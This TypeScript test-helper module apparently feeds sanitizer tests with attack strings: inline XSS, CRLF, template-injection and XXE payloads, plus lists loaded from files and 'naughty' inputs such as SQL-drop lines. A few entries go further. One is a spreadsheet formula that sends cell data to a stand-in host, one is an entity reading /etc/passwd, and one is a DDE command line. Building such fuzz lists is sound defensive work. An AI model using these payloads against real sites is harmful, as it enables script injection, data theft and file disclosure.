import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";

const folder = process.env.PAYLOADS_DIR ?? "../shared/payloads";

/** Kinds of attack that must be tried wherever the public lists are not at hand. */
const own = [
  "<script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "</title></style></textarea></noscript><img src=x onerror=alert(1)>",
  '"><img src=https://elsewhere.example/x.png onerror=alert(1)>',
  "' autofocus onfocus=alert(1) x='",
  "javascript:alert(1)//https://news.example/",
  '[words](javascript:alert(1)) ![x](x"onerror="alert(1))',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<details open ontoggle=alert(1)>",
  "]]><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script><![CDATA[",
  '<?xml-stylesheet href="javascript:alert(1)"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
  "<base href=https://elsewhere.example/><meta http-equiv=refresh content='0;url=https://elsewhere.example/'>",
  "<link rel=stylesheet href=https://elsewhere.example/x.css><style>@import 'https://elsewhere.example/y.css';</style>",
  "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
  '=HYPERLINK("https://elsewhere.example/?"&A1,"x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\u202e\u2066<b onmouseover=alert(1)>\u2069\u200f",
  "%0d%0aSet-Cookie:%20x=1%0d%0a%0d%0a<script>alert(1)</script>",
];

const naughtyOwn = [
  "",
  "undefined",
  "null",
  "NaN",
  "__proto__",
  "constructor",
  "Ω≈ç√∫˜µ≤≥÷",
  "田中さんにあげて下さい",
  "👩‍👩‍👧‍👦 🏳️‍🌈",
  "הָיְתָה test الصفحات",
  "\u200b\ufeff\u2028\u2029",
  "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
  "'; DROP TABLE claim; --",
  "1;DROP TABLE users",
  "%s%n%x{0}",
  "C:\\con\\con",
  "\t\r\n mixed\rline\nends",
  "a\u0301 \u00e1",
];

/** Every line of the lists of attacks whose numbers alone do not set it apart from another, and ours; each tries to run something. */
export function attackStrings(): string[] {
  const files = existsSync(folder)
    ? readdirSync(folder).filter((name) => /^(xss|CRLF).*\.txt$/.test(name))
    : [];
  const lines = files.flatMap((name) => readFileSync(join(folder, name), "utf8").split(/\r?\n/));
  const listed = existsSync(folder)
    ? (JSON.parse(readFileSync(join(folder, "dompurify-expect.json"), "utf8")) as { payload?: string }[])
    : [];
  const all = [...own, ...lines, ...listed.map(({ payload }) => payload ?? "")].filter(
    (line) => line.trim() !== "",
  );
  return [...new Map(all.map((line) => [line.replace(/\d+/g, "0"), line])).values()];
}

/** Texts that programs trip over, as people may write them: nothing that a database cannot hold. */
export function naughtyStrings(): string[] {
  const list = join(folder, "blns.json");
  const listed = existsSync(list) ? (JSON.parse(readFileSync(list, "utf8")) as string[]) : [];
  return [...naughtyOwn, ...listed].map((text) => text.replaceAll("\0", ""));
}

/** The lines joined to as few texts as hold at most `most` characters and `words` words each; a longer line is cut. */
export function inTexts(lines: readonly string[], most: number, words = Infinity): string[] {
  const texts: string[] = [];
  let [text, count] = ["", 0];
  for (const line of lines) {
    const cut = line.slice(0, most);
    const more = cut.split(/\s+/).length;
    if (text !== "" && (text.length + cut.length + 1 > most || count + more > words)) {
      texts.push(text);
      [text, count] = ["", 0];
    }
    text = text === "" ? cut : `${text}\n${cut}`;
    count += more;
  }
  return text === "" ? texts : [...texts, text];
}
